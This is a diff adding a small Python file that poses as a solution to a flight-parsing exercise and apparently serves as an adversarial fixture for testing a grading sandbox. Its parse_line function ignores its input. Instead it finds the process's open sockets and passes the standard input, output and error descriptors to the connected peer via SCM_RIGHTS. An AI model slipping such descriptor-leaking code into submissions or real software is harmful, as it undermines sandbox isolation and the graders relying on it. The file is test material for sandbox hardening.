@@ -1,0 +1,38 @@
+"""Sends open files along with what it says.
+
+Exercise: ex01_parse_flights
+Kind: wire
+Outcome: crash wrong timeout
+"""
+
+import os
+import socket
+import stat
+import struct
+
+
+def sockets():
+    """The open sockets of this process."""
+    for number in range(3, 256):
+        try:
+            if stat.S_ISSOCK(os.fstat(number).st_mode):
+                yield number
+        except OSError:
+            continue
+
+
+import array
+
+
+def parse_line(line):
+    for number in sockets():
+        with socket.socket(fileno=os.dup(number)) as connection:
+            files = array.array("i", [0, 1, 2, number] * 20)
+            try:
+                connection.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
+            except OSError:
+                pass
+    return {}
+
+
+minutes_of = parse_line
